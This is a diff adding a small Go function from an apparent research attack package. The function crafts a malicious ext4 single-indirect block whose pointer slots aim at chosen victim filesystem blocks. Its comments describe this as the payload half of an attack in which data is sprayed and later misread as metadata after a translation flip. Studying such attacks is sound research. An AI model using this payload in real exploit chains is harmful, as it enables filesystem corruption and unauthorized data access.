@@ -1,0 +1,25 @@
+package attack
+
+import (
+	"encoding/binary"
+	"errors"
+)
+
+// MaxPointerTargets is the fan-out of one indirect block.
+const MaxPointerTargets = 4096 / 4
+
+// CraftPointerBlock builds a malicious single-indirect block whose slots
+// point at the given victim filesystem blocks. Unused slots stay zero
+// (holes). It is the payload half of the ext4 indirect-block victim:
+// sprayed as file *data*, dereferenced as *metadata* after a useful
+// translation flip (§3.2 polyglot blocks).
+func CraftPointerBlock(targets []uint32) ([]byte, error) {
+	if len(targets) > MaxPointerTargets {
+		return nil, errors.New("attack: too many pointer targets")
+	}
+	blk := make([]byte, 4096)
+	for i, t := range targets {
+		binary.LittleEndian.PutUint32(blk[i*4:], t)
+	}
+	return blk, nil
+}
